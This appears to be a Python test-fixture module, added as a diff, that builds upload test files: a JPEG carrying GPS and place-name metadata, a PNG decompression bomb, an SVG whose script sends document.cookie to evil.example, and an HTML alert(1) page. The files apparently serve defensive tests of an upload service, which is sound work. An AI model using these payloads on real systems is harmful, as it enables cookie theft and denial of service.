@@ -1,0 +1,111 @@
+"""Real files for upload tests, built byte by byte (nothing downloaded)."""
+
+from __future__ import annotations
+
+import struct
+import zlib
+from pathlib import Path
+
+import pyvips
+
+SECRET_PLACE = b"Kinderdagverblijf Zonnestraal, Dorpsstraat 1"
+
+
+def _tiff_entry(tag: int, kind: int, count: int, value: bytes) -> bytes:
+    return struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\x00")
+
+
+def gps_exif(orientation: int = 6) -> bytes:
+    """An EXIF APP1 payload with an orientation and a GPS position (52.37 N, 4.89 E)."""
+    ifd0_at = 8
+    ifd0 = 2 + 2 * 12 + 4
+    gps_at = ifd0_at + ifd0
+    gps = 2 + 4 * 12 + 4
+    data_at = gps_at + gps
+    lat = struct.pack("<6I", 52, 1, 22, 1, 1234, 100)
+    lon = struct.pack("<6I", 4, 1, 53, 1, 4567, 100)
+    tiff = b"II*\x00" + struct.pack("<I", ifd0_at)
+    tiff += struct.pack("<H", 2)
+    tiff += _tiff_entry(0x0112, 3, 1, struct.pack("<H", orientation))
+    tiff += _tiff_entry(0x8825, 4, 1, struct.pack("<I", gps_at))
+    tiff += struct.pack("<I", 0)
+    tiff += struct.pack("<H", 4)
+    tiff += _tiff_entry(0x0001, 2, 2, b"N\x00")
+    tiff += _tiff_entry(0x0002, 5, 3, struct.pack("<I", data_at))
+    tiff += _tiff_entry(0x0003, 2, 2, b"E\x00")
+    tiff += _tiff_entry(0x0004, 5, 3, struct.pack("<I", data_at + len(lat)))
+    tiff += struct.pack("<I", 0)
+    tiff += lat + lon
+    return b"Exif\x00\x00" + tiff
+
+
+def _segment(marker: int, payload: bytes) -> bytes:
+    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload
+
+
+def picture(width: int, height: int) -> pyvips.Image:
+    """A picture whose left half is red and right half blue: orientation shows."""
+    left = pyvips.Image.black(width // 2, height).new_from_image([220, 30, 30])
+    right = pyvips.Image.black(width - width // 2, height).new_from_image([30, 30, 220])
+    return left.join(right, "horizontal").copy(interpretation="srgb").cast("uchar")
+
+
+def jpeg_with_secrets(width: int = 64, height: int = 32) -> bytes:
+    """A JPEG with EXIF (GPS, orientation 6), XMP naming a place, and a comment."""
+    plain = picture(width, height).jpegsave_buffer(Q=90, keep="none")
+    xmp = (
+        b"http://ns.adobe.com/xap/1.0/\x00"
+        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>52,22.2N</exif:GPSLatitude>'
+        b"<photoshop:City>" + SECRET_PLACE + b"</photoshop:City></x:xmpmeta>"
+    )
+    extra = _segment(0xE1, gps_exif()) + _segment(0xE1, xmp) + _segment(0xFE, SECRET_PLACE)
+    return plain[:2] + extra + plain[2:]
+
+
+def large_jpeg(width: int = 4000, height: int = 3000) -> bytes:
+    """A 12 MP photo-like JPEG (gradients, so it compresses like a photo, not like flat colour)."""
+    xyz = pyvips.Image.xyz(width, height)
+    r = (xyz[0] * 255 / width).cast("uchar")
+    g = (xyz[1] * 255 / height).cast("uchar")
+    b = ((xyz[0] + xyz[1]) % 256).cast("uchar")
+    image = r.bandjoin([g, b]).copy(interpretation="srgb")
+    data: bytes = image.jpegsave_buffer(Q=90)
+    return data
+
+
+def png_bomb(path: Path, side: int = 50_000) -> Path:
+    """A side×side 1-bit PNG of a few hundred KB that would decode to gigabytes."""
+    if path.exists():
+        return path
+
+    def chunk(kind: bytes, payload: bytes) -> bytes:
+        body = kind + payload
+        return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))
+
+    row = b"\x00" + b"\x00" * ((side + 7) // 8)
+    compressor = zlib.compressobj(9)
+    block = row * 1000
+    idat = bytearray()
+    for _ in range(side // 1000):
+        idat += compressor.compress(block)
+    idat += compressor.flush()
+    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    path.write_bytes(
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", bytes(idat))
+        + chunk(b"IEND", b"")
+    )
+    return path
+
+
+SVG_WITH_SCRIPT = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b"<script>fetch('https://evil.example/'+document.cookie)</script></svg>"
+)
+HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
+PDF = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+)
+MP4_HEAD = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2mp41" + b"\x00\x00\x00\x08free"
